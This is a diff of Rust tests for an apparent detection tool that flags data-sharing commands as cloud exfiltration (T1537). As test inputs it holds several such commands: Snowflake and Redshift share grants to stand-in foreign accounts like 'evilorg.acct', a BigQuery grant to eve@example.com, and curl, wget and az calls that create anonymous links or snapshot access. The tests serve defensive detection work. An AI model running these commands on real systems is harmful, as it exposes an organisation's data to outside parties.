@@ -743,3 +743,107 @@ fn profiles_that_name_accounts_accuse() {
         );
     }
 }
+
+/// What a database is asked may let another account in.
+#[test]
+fn grants_in_statements_are_told() {
+    let told = |args: &[&str]| {
+        let mut w = World::new();
+        w.policy = own();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        w.spawn(1.0, &shell, tool(args[0].to_owned().leak()), args);
+        w.tell()
+    };
+    for (args, service, tenant) in [
+        (&["snowsql", "-q", "ALTER SHARE s ADD ACCOUNTS = evilorg.acct"][..], "snowflake", "evilorg.acct"),
+        (
+            &["snow", "sql", "-q", "use role a; alter share s set accounts=evilorg.acct"],
+            "snowflake",
+            "evilorg.acct",
+        ),
+        (
+            &[
+                "psql",
+                "-h",
+                "c.redshift.amazonaws.com",
+                "-c",
+                "GRANT USAGE ON DATASHARE s TO ACCOUNT '999988887777'",
+            ],
+            "aws",
+            "999988887777",
+        ),
+        (
+            &[
+                "aws",
+                "redshift-data",
+                "execute-statement",
+                "--sql",
+                "grant usage on datashare s to account '999988887777'",
+            ],
+            "aws",
+            "999988887777",
+        ),
+        (
+            &[
+                "bq",
+                "query",
+                "--use_legacy_sql=false",
+                "GRANT `roles/bigquery.dataViewer` ON SCHEMA d TO \"user:eve@example.com\"",
+            ],
+            "gcp",
+            "eve@example.com",
+        ),
+    ] {
+        let told = told(args);
+        let alert = told.alert();
+        let found = (alert.service.as_deref(), alert.tenant.as_deref(), alert.tenant_verdict.as_str());
+        assert_eq!(found, (Some(service), Some(tenant), "foreign"), "{args:?}");
+        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{args:?}");
+    }
+    for args in [
+        &["snowsql", "-q", "CREATE SHARE s; GRANT SELECT ON TABLE t TO SHARE s"][..],
+        &["snowsql", "-q", "alter share s remove accounts = evilorg.acct"],
+        &["psql", "-c", "GRANT USAGE ON DATASHARE s TO ACCOUNT '111122223333'"],
+        &["psql", "-c", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob"],
+        &["bq", "query", "GRANT `roles/bigquery.dataViewer` ON SCHEMA d TO \"user:bob@corp.com\""],
+        &["psql"],
+        &["snowsql", "-f", "x.sql"],
+    ] {
+        told(args).none();
+    }
+}
+
+/// The id of an object in a directory is nearly always one of one's own: it does not tell, and so it accuses nobody.
+#[test]
+fn an_objects_id_does_not_tell_whose_it_is() {
+    let scope = "/subscriptions/1/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/corpstore";
+    for line in [
+        format!(
+            "az role assignment create --role Reader --assignee 99999999-8888-7777-6666-555555555555 --scope {scope}"
+        ),
+        format!(
+            "az role assignment create --role Reader --assignee-object-id 99999999-8888-7777-6666-555555555555 --scope {scope}"
+        ),
+    ] {
+        let told = run(&line, &own());
+        let alert = told.low();
+        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
+        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
+        run(&line.replace("99999999-8888-7777-6666", "11111111-2222-3333-4444"), &own()).none();
+    }
+}
+
+/// A body that stands in a file; links, which let in whoever has them.
+#[test]
+fn calls_that_do_not_say_whom_they_let_in() {
+    for line in [
+        "curl -d @body.json https://graph.microsoft.com/v1.0/me/drive/items/01A/invite",
+        "curl -d {\"type\":\"view\",\"scope\":\"anonymous\"} https://graph.microsoft.com/v1.0/me/drive/items/01A/createLink",
+        "curl --json {\"path\":\"/x\"} https://api.dropboxapi.com/2/sharing/create_shared_link_with_settings",
+        "wget --post-data {\"path\":\"/x\"} https://api.dropboxapi.com/2/files/copy_reference/get",
+        "az rest --method post --url https://management.azure.com/subscriptions/1/resourceGroups/rg/providers/Microsoft.Compute/snapshots/s/beginGetAccess?api-version=2023-04-02 --body {\"access\":\"Read\",\"durationInSeconds\":86400}",
+    ] {
+        let told = run(line, &own());
+        assert_eq!(told.low().rules[0].techniques[0].as_ref(), "T1537", "{line}");
+    }
+}
